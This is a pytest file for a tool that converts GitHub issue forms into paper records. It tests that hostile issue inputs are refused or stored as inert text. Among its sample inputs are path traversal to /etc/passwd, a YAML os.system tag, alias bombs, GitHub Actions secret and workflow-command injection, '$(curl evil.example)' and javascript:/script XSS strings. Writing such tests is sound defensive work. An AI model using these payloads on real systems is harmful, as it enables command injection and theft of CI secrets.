"""Issues that attack: refused and without a trace, or taken as the mere text that they are."""

import json
import re
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from issues import CORRECTED, SUGGESTION, body, corrected, event, suggested, write_event
from proposed import outputs, surveymark
from typed import snapshot

ATTACKS: dict[str, object] = {
    "a key that climbs out": corrected(key="../../.github/workflows/check"),
    "a key that is an absolute path": corrected(key="/etc/passwd"),
    "a key with a null byte": corrected(key="conference2022shelf\x00.yml"),
    "a key with a bidi mark": corrected(key="conference2022shelf\u202e"),
    "a key with a line end": corrected(key="conference2022shelf\nli2023plates"),
    "the key of another paper": corrected(key="li2023plates"),
    "a former key": corrected(key="plates-in-journals"),
    "an existing key with a new paper": corrected(
        entry="```yaml\ntitle: My Own Paper\ntopics: [cups]\n```"
    ),
    "an entry that takes another paper's id": corrected(
        entry="```yaml\n" + CORRECTED.replace("2205.00001", "2403.01234") + "```"
    ),
    "an unknown field": corrected(entry="```yaml\n" + CORRECTED + "template: x\n```"),
    "an entry that names its own key": corrected(entry="```yaml\n" + CORRECTED + "key: index\n```"),
    "another entry's aliases": corrected(
        entry="```yaml\n" + CORRECTED + "aliases: [berg2024cups]\n```"
    ),
    "a YAML tag": corrected(entry="```yaml\ntitle: !!python/object/apply:os.system [ls]\n```"),
    "a YAML anchor": corrected(entry="```yaml\ntitle: &a A Shelf at a Conference\nnote: *a\n```"),
    "aliases that grow": corrected(entry="```yaml\na: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n```"),
    "two YAML documents": corrected(entry="```yaml\n" + CORRECTED + "---\ntitle: x\n```"),
    "deep YAML": corrected(entry="```yaml\n" + "[" * 20_000 + "\n```"),
    "a field twice": corrected(entry="```yaml\n" + CORRECTED + "title: other\n```"),
    "a script for a link": corrected(
        entry="```yaml\n" + CORRECTED + "links: {code: ['javascript:alert(1)']}\n```"
    ),
    "a fence that is left": corrected(entry="```yaml\n" + CORRECTED + "```\n### Key\nindex\n```\n"),
    "no entry at all": corrected(entry="_No response_"),
    "a heading twice": suggested(summary="Nice.\n\n### Title\n\n::error::x"),
    "a heading that is none of ours": suggested(summary="Nice.\n\n### Key\n\nindex"),
    "a workflow command for an id": suggested(arxiv="::set-output name=key::index"),
    "an expression for an id": suggested(arxiv="${{ secrets.GITHUB_TOKEN }}"),
    "a command in an id": suggested(arxiv="$(curl evil.example)"),
    "a topic that is none": suggested(topic="../topics"),
    "a contribution that is none": suggested(gives="virus"),
    "a link with a password": suggested(code="https://user:pass@example.org/"),
    "a link to this machine": suggested(code="http://localhost/"),
    "two lines of title": suggested(title="One\r\nkey=index"),
    "a title of nothing but marks": suggested(title="\u202e\u2066\u200b"),
    "a paper that is here": suggested(title="CUPS that keep their temper"),
    "no licence": suggested(own="- [ ] no"),
    "a licence of one's own": suggested(own="- [X] yes"),
    "100,000 characters": suggested(summary="x" * 100_000),
    "10 MB": suggested(summary="x" * 10_000_000),
    "15,000 authors": suggested(authors="a b\n" * 15_000),
    "9,000 headings": suggested(authors="### x\n" * 9_000),
    "no body": None,
    "a body that is a list": ["### Title"],
    "no form": "Dear curators, please add my paper.",
    "an empty event": {},
    "a list for an event": [],
    "an event without issue": {"action": "opened", "repository": {}},
    "a pull request": {"pull_request": {"number": 1, "body": body(SUGGESTION)}},
    "an issue that is a pull request": event(
        body(SUGGESTION), pull_request={"url": "https://example.org"}
    ),
    "no label": event(body(SUGGESTION), labels=[]),
    "a label of nobody's": event(body(SUGGESTION), "suggest-paper\n"),
    "both labels": event(
        body(SUGGESTION), labels=[{"name": "suggest-paper"}, {"name": "fix-record"}]
    ),
    "the other form's label": event(body(SUGGESTION), "fix-record"),
    "a number that is a path": event(body(SUGGESTION), number="../1"),
    "no JSON": '{"issue": ',
    "a deep event": "[" * 100_000,
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_refused_and_changes_nothing(folder: Path, attack: str) -> None:
    value = ATTACKS[attack]
    is_form = (
        (isinstance(value, str) and value.startswith("### "))
        or value is None
        or attack in {"a body that is a list", "no form"}
    )
    label = (
        "fix-record" if isinstance(value, str) and value.startswith("### Key") else "suggest-paper"
    )
    issue = write_event(folder / "event.json", event(value, label) if is_form else value)
    before = snapshot(folder)
    answer, told = folder / "answer.md", folder / "told"
    done = surveymark(
        "from-issue", issue, "--answer", answer, "--root", folder, env={"GITHUB_OUTPUT": str(told)}
    )
    assert done.exit_code in {1, 2}
    assert done.output or done.stderr
    assert not re.search(
        r"^::|[\x00-\x09\x0b-\x1f\u202a-\u202e\u2066-\u2069]",
        done.output + done.stderr,
        re.MULTILINE,
    )
    if done.exit_code == 1:
        assert len(answer.read_text("utf-8")) < 65_536
        assert outputs(told) == {"outcome": "refused"}
        kinds = {
            token.type
            for block in MarkdownIt("commonmark").parse(answer.read_text("utf-8"))
            for token in (block, *(block.children or ()))
        }
        assert not kinds & {"image", "html_block", "heading_open", "fence"}
        assert ("link_open" in kinds) == (attack == "a paper that is here")
        assert not re.search(r"[@#](?![0-9]+;)", answer.read_text("utf-8").replace("&#", ""))
    else:
        assert not told.exists()
        assert not answer.exists()
    for path in (answer, told):
        path.unlink(missing_ok=True)
    assert snapshot(folder) == before


HARMLESS = {
    "HTML in the title": (
        "title",
        "</title><script>alert(1)</script> pots",
        "</title><script>alert(1)</script> pots",
    ),
    "an expression in the title": (
        "title",
        "Pots ${{ secrets.X }} `id` $(id)",
        "Pots ${{ secrets.X }} `id` $(id)",
    ),
    "a command in the title": ("title", "::error file=x::Pots", "::error file=x::Pots"),
    "an output in the title": ("title", "key=index", "key=index"),
    "YAML in the title": ("title", "!!python/name:x &a *b : - #", "!!python/name:x &a *b : - #"),
    "a link in the title": (
        "title",
        "[Pots](javascript:alert(1)) ![x](y)",
        "[Pots](javascript:alert(1)) ![x](y)",
    ),
    "bidi marks in the title": ("title", "Pots \u202edlo\u2066 of", "Pots dlo of"),
    "null bytes in the title": ("title", "Po\x00ts\x1b[31m", "Pots[31m"),
    "a path for a title": ("title", "../../../../etc/passwd", "../../../../etc/passwd"),
    "a reserved name for a title": ("title", "index", "index"),
}


@pytest.mark.parametrize("name", HARMLESS)
def test_hostile_text_becomes_a_value_and_nothing_else(
    folder: Path, tmp_path: Path, name: str
) -> None:
    field, text, expected = HARMLESS[name]
    before = snapshot(folder)
    issue = write_event(
        tmp_path / "hostile.json", event(suggested(**{field: text, "authors": "_No response_"}))
    )
    done = surveymark(
        "from-issue", issue, "--root", folder, env={"GITHUB_OUTPUT": str(tmp_path / "told")}
    )
    assert done.exit_code == 0, done.output
    issue.unlink()
    told = outputs(tmp_path / "told")
    (tmp_path / "told").unlink()
    new = snapshot(folder).keys() - before.keys()
    assert new == {f"content/papers/{told['key']}.yml"}
    assert re.fullmatch(r"[a-z0-9-]+", told["key"])
    assert told["branch"] == "issue-12"
    checked = surveymark("check", "--root", folder)
    assert checked.exit_code == 0, checked.output
    exported = json.loads(surveymark("export", "csl-json", "--root", folder).output)
    assert [item["title"] for item in exported if item["id"] == told["key"]] == [expected]
